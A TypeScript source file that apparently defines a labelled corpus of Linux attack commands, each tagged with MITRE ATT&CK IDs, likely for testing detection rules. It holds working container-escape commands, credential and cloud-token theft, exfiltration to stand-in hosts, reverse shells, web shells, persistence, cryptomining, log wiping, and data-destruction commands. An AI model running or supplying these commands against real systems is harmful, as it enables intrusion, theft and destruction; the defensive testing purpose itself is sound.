/** Steps of campaigns, breakouts and data theft, written down before the rules were read. What is routine by its exec alone is left out. */
import type { Attack } from './attacks.ts';
import { attackLines } from './lines.ts';

/** Entry, techniques, command. */
export const CAMPAIGN_ATTACKS: readonly Attack[] = attackLines(String.raw`
exec | T1611 T1006 | mkdir -p /mnt/h && mount --rbind /host /mnt/h && chroot /mnt/h id
exec | T1611 | mount --rbind /proc/1/root /mnt
exec | T1611 T1006 | fdisk -l; mkdir /tmp/d; mount /dev/sda1 /tmp/d; ls /tmp/d/root
exec | T1611 | mkdir /tmp/cgrp && mount -t cgroup -o rdma cgroup /tmp/cgrp && mkdir /tmp/cgrp/x; echo 1 > /tmp/cgrp/x/notify_on_release
exec | T1611 | nsenter -t 1 -m -u -n -i sh
exec | T1611 | chroot /host /bin/bash -c "crictl ps"
exec | T1611 | docker -H unix:///var/run/docker.sock run -it --rm -v /:/mnt alpine chroot /mnt sh
exec | T1611 T1610 | curl -s --unix-socket /var/run/docker.sock -X POST -H "Content-Type: application/json" -d '{"Image":"alpine","Cmd":["sleep","1d"],"HostConfig":{"Binds":["/:/host"],"Privileged":true}}' http://localhost/containers/create
web | T1611 | ./cdk run mount-disk
web | T1611 | ./cdk_linux_amd64 evaluate --full
exec | T1611 | debugfs -R 'cat /etc/shadow' /dev/sda1
exec | T1611 | unshare -UrmC bash
web | T1611 | ctr -a /run/containerd/containerd.sock images list
exec | T1611 | echo '|/proc/%P/root/tmp/x' > /proc/sys/kernel/core_pattern; sh -c 'kill -11 $$'
exec | T1611 T1547.006 | insmod /tmp/reverse-shell.ko
exec | T1611 T1098.004 | echo "ssh-rsa AAAAB3Nza attacker" >> /host/root/.ssh/authorized_keys
web | T1611 T1613 | curl -sL https://github.com/stealthcopter/deepce/raw/main/deepce.sh -o /tmp/deepce.sh; sh /tmp/deepce.sh
web | T1613 T1611 | wget -O /tmp/amicontained https://github.com/genuinetools/amicontained/releases/download/v0.4.9/amicontained-linux-amd64; chmod +x /tmp/amicontained; /tmp/amicontained
web | T1082 T1105 T1059.004 | curl -L https://github.com/peass-ng/PEASS-ng/releases/latest/download/linpeas.sh | sh
web | T1105 T1059.004 | (curl -fsSL http://198.51.100.66/d.sh || wget -q -O- http://198.51.100.66/d.sh) | bash
web | T1562.001 T1070 T1222.002 | chattr -iae /etc/ld.so.preload /var/spool/cron/root; rm -f /etc/ld.so.preload
web | T1562.001 T1489 | pkill -f kinsing; pkill -f xmrig; ps aux | grep -v grep | grep 'kdevtmpfsi' | awk '{print $2}' | xargs -I % kill -9 %
web | T1562.001 T1562.004 | setenforce 0; systemctl stop apparmor; iptables -F; ufw disable
web | T1562.001 | /usr/local/aegis/aegis_client/uninstall.sh; systemctl stop aliyun.service; rm -rf /usr/local/aegis
web | T1574.006 | cc -shared -fPIC -o /usr/local/lib/libprocesshider.so /tmp/processhider.c -ldl; echo /usr/local/lib/libprocesshider.so >> /etc/ld.so.preload
web | T1053.003 | (crontab -l 2>/dev/null; echo "* * * * * wget -q -O - http://198.51.100.66/unk.sh | sh") | crontab -
exec | T1053.003 | echo "*/5 * * * * root curl -fsSL http://198.51.100.66/a.sh | bash" > /etc/cron.d/apache2; chmod 600 /etc/cron.d/apache2
web | T1021.004 T1552.004 | for h in $(cat /root/.ssh/known_hosts | grep -oE "[0-9.]+"); do ssh -oStrictHostKeyChecking=no -oBatchMode=yes -oConnectTimeout=5 -i /root/.ssh/id_rsa root@$h 'curl http://198.51.100.66/x.sh | bash'; done; ssh -oStrictHostKeyChecking=no -oBatchMode=yes -oConnectTimeout=5 -i /root/.ssh/id_rsa root@10.0.0.5 'curl http://198.51.100.66/x.sh | bash'
web | T1046 | masscan 10.0.0.0/8 -p6379 --rate=50000 | awk '{print $6}' > .r.6379.l
web | T1210 T1021 T1190 | redis-cli -h 10.0.0.7 -p 6379 --raw < .dat; redis-cli -h 10.0.0.7 config set dir /var/spool/cron
web | T1610 | docker -H tcp://10.0.0.9:2375 run --rm -v /:/mnt alpine chroot /mnt /bin/sh -c "curl http://198.51.100.66/init.sh | bash"
web | T1046 | zgrab --port=2375 --http='/v1.16/version' --output-file=- < ips.txt; pnscan -r 'HTTP' 10.0.0.0/16 2375
exec | T1552.001 | cat /root/.aws/credentials; cat /root/.aws/config
web | T1552.001 | cat /root/.docker/config.json
exec | T1552.001 | cat /root/.kube/config
web | T1552.007 T1552.001 T1041 T1048 | env | base64 -w0 | curl -s -X POST --data-binary @- http://198.51.100.66:8000/c
web | T1552.001 | find / -name "*.env" -o -name "credentials" -o -name ".git-credentials" 2>/dev/null | xargs grep -i aws_secret
web | T1552.005 | curl -s http://169.254.169.254/latest/api/token -X PUT -H "X-aws-ec2-metadata-token-ttl-seconds: 21600"
web | T1552.005 | curl -s -H "Metadata-Flavor: Google" http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token
web | T1552.005 | curl -s http://169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI
exec | T1552.005 | wget -qO- --header "Metadata: true" "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/"
web | T1003.008 | cat /etc/shadow
exec | T1003.008 T1611 | cat /host/etc/shadow
exec | T1552.004 | find / -name "id_rsa*" -o -name "*.pem" -o -name "*.ppk" 2>/dev/null
exec | T1552.004 | tar czf /tmp/k.tgz /root/.ssh /home/*/.ssh
exec | T1528 T1552.007 | cat /var/lib/kubelet/pods/*/volumes/kubernetes.io~projected/*/token
web | T1528 | cat /run/secrets/kubernetes.io/serviceaccount/token
exec | T1552.007 T1528 | TOKEN=$(cat /run/secrets/kubernetes.io/serviceaccount/token); curl -k -H "Authorization: Bearer $TOKEN" https://kubernetes.default/api/v1/namespaces/kube-system/secrets
web | T1613 T1069 | /tmp/kubectl auth can-i --list
web | T1552.007 | /tmp/kubectl get secrets -A -o yaml
web | T1609 | /tmp/kubectl exec -n kube-system etcd-master -- cat /etc/kubernetes/pki/ca.key
web | T1613 | kubeletctl scan --cidr 10.0.0.0/24
web | T1609 | kubeletctl exec "id" -p web -c main -s 10.0.0.4
web | T1609 | curl -sk https://10.0.0.4:10250/run/default/web/main -d "cmd=id"
web | T1613 T1528 | ./peirates
exec | T1098 T1078 | kubectl create clusterrolebinding pwn --clusterrole=cluster-admin --serviceaccount=default:default
exec | T1610 T1611 | kubectl run r00t --image=alpine --restart=Never --overrides='{"spec":{"hostPID":true,"containers":[{"name":"1","image":"alpine","command":["nsenter","--mount=/proc/1/ns/mnt","--","/bin/bash"],"stdin":true,"tty":true,"securityContext":{"privileged":true}}]}}'
web | T1572 T1090 | /tmp/chisel client 198.51.100.66:8080 R:socks
web | T1572 | ./ngrok tcp 22 --log=stdout
exec | T1572 | ssh -fN -R 2222:localhost:22 -o StrictHostKeyChecking=no t@198.51.100.66
web | T1090 T1572 | nohup ./frpc -c frpc.ini >/dev/null 2>&1 &
web | T1090 | socat TCP-LISTEN:8888,fork,reuseaddr TCP:10.0.0.5:3306
web | T1090 T1572 | /dev/shm/gost -L=:1080 -F=relay+tls://198.51.100.66:443
web | T1071.004 T1572 | ./dnscat --dns server=198.51.100.66,port=53 --secret=abc
web | T1572 T1071.004 | iodine -f -P pass t1.evil.example
web | T1572 T1219 | cloudflared tunnel --url tcp://localhost:22
web | T1090.003 | tor -f /tmp/torrc; curl -s --socks5-hostname 127.0.0.1:9050 http://abcdefghijklmnop.onion/x
exec | T1041 T1048 | mysqldump -u root -psecret --all-databases | gzip | curl -T - http://198.51.100.66/db.gz
exec | T1048 T1567 | mongodump --archive --gzip | curl -s --data-binary @- https://198.51.100.66/m
exec | T1048.003 T1048 | pg_dump -U postgres app | nc -w 3 198.51.100.66 9001
exec | T1048.003 T1048 T1041 | tar czf - /var/www/html /etc | nc 198.51.100.66 4444
web | T1567.002 | rclone copy /data remote:loot --config /tmp/.r.conf
exec | T1567.002 T1537 | aws s3 cp /tmp/loot.tgz s3://attacker-loot/ --no-sign-request
web | T1567.002 | gsutil cp /tmp/loot.tgz gs://attacker-loot/
web | T1567.002 | /tmp/azcopy copy /data "https://loot.blob.core.windows.net/c?sv=2020&sig=x" --recursive
exec | T1048.002 T1048 | scp -o StrictHostKeyChecking=no -r /data root@198.51.100.66:/loot
exec | T1048 T1048.002 | rsync -avz -e "ssh -i /tmp/k -o StrictHostKeyChecking=no" /data u@198.51.100.66:/loot/
exec | T1048 T1041 | wget --post-file=/etc/passwd http://198.51.100.66/
web | T1041 T1048 T1567 | python3 -c "import requests;requests.post('http://198.51.100.66/u',files={'f':open('/etc/passwd','rb')})"
exec | T1048.002 T1048 | openssl s_client -quiet -connect 198.51.100.66:443 < /tmp/loot.tgz
web | T1567 T1041 T1048 | curl -F "file=@/tmp/loot.tgz" https://transfer.sh
web | T1567 | curl -s -F document=@/tmp/loot.zip "https://api.telegram.org/bot123:AAA/sendDocument?chat_id=1"
web | T1567 T1102 | curl -H "Content-Type: application/json" -d "{\"content\":\"$(id)\"}" https://discord.com/api/webhooks/123/abc
web | T1567.003 T1567 | cat /app/config.php | curl -F 'f:1=<-' ix.io
exec | T1048.003 | xxd -p -c 30 /etc/passwd | while read l; do dig $l.x.evil.example; done; dig 726f6f743a783a303a303a726f6f743a2f726f6f743a.x.evil.example
web | T1048.003 T1095 | xxd -p -c 16 /etc/passwd | xargs -I{} ping -c 1 -p {} 198.51.100.66; ping -c 1 -p 726f6f743a783a30 198.51.100.66
web | T1505.003 | echo '<?php @eval($_POST["c"]);?>' > /var/www/html/images/a.php
web | T1505.003 | curl -s http://198.51.100.66/shell.jsp -o /usr/local/tomcat/webapps/ROOT/shell.jsp
web | T1033 T1087.001 T1082 | whoami; id; uname -a; cat /etc/passwd
web | T1049 T1016 T1057 | netstat -antp; ip a; ps auxwww; cat /etc/hosts
exec | T1136.001 | useradd -o -u 0 -g 0 -M -d /root -s /bin/bash sysd; echo 'sysd:Pass123' | chpasswd
exec | T1098.004 | mkdir -p /root/.ssh; echo 'ssh-ed25519 AAAA x' >> /root/.ssh/authorized_keys; chmod 600 /root/.ssh/authorized_keys
exec | T1543.002 | cp /tmp/sysd.service /etc/systemd/system/sysd.service; systemctl enable --now sysd.service
exec | T1546.004 | echo 'curl -s http://198.51.100.66/b|sh' >> /etc/profile.d/lang.sh; chmod +x /etc/profile.d/lang.sh
exec | T1548.001 | cp /bin/bash /tmp/.b; chmod u+s /tmp/.b
exec | T1548.001 | find / -perm -4000 -type f 2>/dev/null
web | T1548.001 | find / -perm -u=s -type f 2>/dev/null; getcap -r / 2>/dev/null
exec | T1548.003 | echo 'www-data ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers; visudo -c
exec | T1070.003 | history -c; rm -f /root/.bash_history; ln -sf /dev/null /root/.bash_history
exec | T1070.002 | rm -rf /var/log/auth.log /var/log/wtmp /var/log/btmp /var/log/lastlog
exec | T1070.002 | truncate -s 0 /var/log/nginx/access.log; echo > /var/log/syslog
exec | T1070.006 | touch -r /bin/ls /tmp/.x; touch -t 201801010000 /usr/bin/evil
exec | T1070.004 | shred -uzn 3 /tmp/loot.tgz
exec | T1036.005 T1564.001 | cp /tmp/xmrig "/usr/sbin/ [kworker]"; mkdir -p /tmp/.../; mv /tmp/x /tmp/.../kthreadd; /tmp/.../kthreadd
web | T1496 | curl -sO http://198.51.100.66/xmr.tgz; tar xf xmr.tgz; ./xmrig --donate-level 1 -o pool.minexmr.com:443 -u 4AB -k --tls
web | T1496 | nohup ./t-rex -a kawpow -o stratum+tcp://rvn.2miners.com:6060 -u R.x &
web | T1496 | sysctl -w vm.nr_hugepages=1280; modprobe msr; wrmsr -a 0x1a4 0xf
exec | T1485 | rm -rf --no-preserve-root /data
exec | T1486 | find /data -type f -exec openssl enc -aes-256-cbc -salt -pass pass:k -in {} -out {}.enc \;
exec | T1486 T1490 | mysql -uroot -psecret -e "DROP DATABASE app; CREATE DATABASE README_TO_RECOVER"
exec | T1485 | curl -s -XDELETE http://elasticsearch:9200/_all
exec | T1561.001 T1485 | dd if=/dev/zero of=/dev/sda bs=1M
exec | T1499 T1499.001 | :(){ :|:& };: ; stress-ng --cpu 0 --vm 8 --vm-bytes 90%
exec | T1046 | nmap -sT -p 22,80,443,2379,6443,10250 10.0.0.0/24
web | T1046 | for p in 22 80 2379 6443 10250; do timeout 1 bash -c "echo >/dev/tcp/10.0.0.1/$p" && echo $p; done
exec | T1046 | nc -zv 10.0.0.1 1-10000
web | T1059.004 T1071 | bash -i >& /dev/tcp/198.51.100.66/4444 0>&1
exec | T1059.006 | python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("198.51.100.66",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")'
exec | T1059.004 | rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 198.51.100.66 4444 >/tmp/f
web | T1059 | php -r '$sock=fsockopen("198.51.100.66",4444);exec("sh <&3 >&3 2>&3");'
exec | T1059.004 T1071 | socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:198.51.100.66:4444
web | T1027 T1140 T1059.004 | echo Y3VybCBodHRwOi8vMTk4LjUxLjEwMC42Ni94fHNo | base64 -d | bash
web | T1140 T1027 | base64 -d /tmp/a.b64 > /tmp/a; chmod 777 /tmp/a; /tmp/a
exec | T1105 | curl -sfL http://198.51.100.66/k -o /dev/shm/.k && chmod 755 /dev/shm/.k && /dev/shm/.k
web | T1105 T1620 | python3 -c "import os,urllib.request;fd=os.memfd_create('a');os.write(fd,urllib.request.urlopen('http://198.51.100.66/k').read());os.execve('/proc/self/fd/%d'%fd,['k'],{})"
exec | T1110 | hydra -l root -P /tmp/pw.txt ssh://10.0.0.5
web | T1110 T1046 | ncrack -p 22 --user root -P p.txt 10.0.0.0/24
exec | T1556 T1556.003 | cp /tmp/pam_unix.so /lib/x86_64-linux-gnu/security/pam_unix.so
exec | T1055.008 | gdb -p 1 -batch -ex 'call (int)system("id")'
web | T1068 | gcc -o /tmp/dirty /tmp/dirty.c -pthread; /tmp/dirty
web | T1068 | ./pwnkit
`);
